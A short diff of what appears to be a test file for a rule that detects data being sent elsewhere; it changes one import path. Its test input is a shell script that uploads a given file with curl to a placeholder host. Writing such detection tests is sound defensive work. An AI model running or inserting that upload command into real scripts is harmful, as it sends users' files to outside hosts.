@@ -1,5 +1,5 @@
 import { setRuleCases } from '../testing/set-cases.ts';
-import { sentElsewhere } from './sent-elsewhere.ts';
+import { sentElsewhere } from './sending.ts';
 
 const post = '#!/bin/sh\ncurl -s -T "$1" https://up.acme.test/x\n';
 
